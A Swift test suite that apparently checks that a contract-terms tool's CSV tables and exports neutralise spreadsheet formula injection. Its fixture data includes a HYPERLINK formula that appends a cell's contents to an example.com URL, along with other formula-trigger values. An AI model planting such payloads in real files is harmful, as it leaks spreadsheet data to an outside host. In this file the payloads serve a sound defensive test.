import Foundation
import Subprocesses
import Testing

/// Every table that leaves is read by a spreadsheet, which runs what looks like a formula.
struct SpreadsheetTests {
    private static let link = #"=HYPERLINK("http://example.com/?"&A1)"#

    private static func console() async throws -> Console {
        try await InventedBook.console([
            InventedBook.opening(
                "term-added: { term: l, kind: license-grant, set: { grantor: a, grantee: b, subject: "
                    + "'\(link)', exclusivity: exclusive } }",
                "term-added: { term: o, kind: other, set: { text: '+1+1' } }",
                "term-added: { term: p, kind: other, set: { text: '  @SUM(1)' } }",
                "term-added: { term: q, kind: other, set: { text: '-2' } }",
                #"term-added: { term: t, kind: other, set: { text: "\t1" } }"#,
                "term-added: { term: r, kind: royalty, set: { payer: a, payee: b, "
                    + "rate: '10% of =1+1' } }")
        ])
    }

    /// Cells that a spreadsheet would run, of every row but the first.
    private static let script = """
        import csv, sys
        rows = list(csv.reader(open(sys.argv[1], newline='')))
        assert len(rows) > 1, rows
        cells = [cell for row in rows for cell in row]
        bad = [c for c in cells if c.lstrip()[:1] in ('=', '+', '-', '@') and c.lstrip() or c[:1] in ('\\t', '\\r')]
        print('bad', bad)
        print('guarded', sum(c.startswith("'") for c in cells))
        """

    @Test(arguments: [
        ["find", "kind = other or kind = license-grant", "--on", "2024-06-01"],
        [
            "find", "subject contains HYPERLINK or text contains 1 or text contains 2", "--on",
            "2024-06-01",
        ],
    ])
    func `no cell of a table is a formula`(line: [String]) async throws {
        let answer = try await Self.console().run(line + ["--format", "csv"])
        #expect(answer.status == 0, "\(answer.errors)")
        try await Self.expectGuarded(answer.output, atLeast: 4)
    }

    /// In the table that is imported again, a text that would lose its ends in a cell stands in braces instead.
    @Test(arguments: [("csv-fields", 4), ("csv", 3)])
    func `no cell of an export is a formula`(format: String, guarded: Int) async throws {
        let answer = try await Self.console().run([
            "export", "--agreement", "x", "--on", "2024-06-01", "--format", format,
        ])
        #expect(answer.status == 0, "\(answer.errors)")
        try await Self.expectGuarded(answer.output, atLeast: guarded)
    }

    @Test func `the base of a figure is no formula either`() async throws {
        let console = try await Self.console()
        console.files["f.csv"] = MemoryFiles.File("period,base,amount\n2024-02,=1+1,USD 10\n")
        let answer = await console.run([
            "payable", "x", "r", "--figures", "f.csv", "--format", "csv",
        ])
        #expect(answer.status == 0, "\(answer.errors)")
        try await Self.expectGuarded(answer.output, atLeast: 1)
    }

    private static func expectGuarded(_ table: String, atLeast count: Int) async throws {
        try await InventedBook.withFiles(["table.csv": table]) { folder in
            let done = try await Python.run(script, [folder + "/table.csv"])
            #expect(done.status == 0, "\(done.text)")
            let lines = done.text.split(separator: "\n")
            #expect(lines.first == "bad []", "\(done.text)")
            let guarded = lines.last.flatMap { Int($0.split(separator: " ").last ?? "") } ?? 0
            #expect(guarded >= count, "\(done.text)")
        }
    }
}
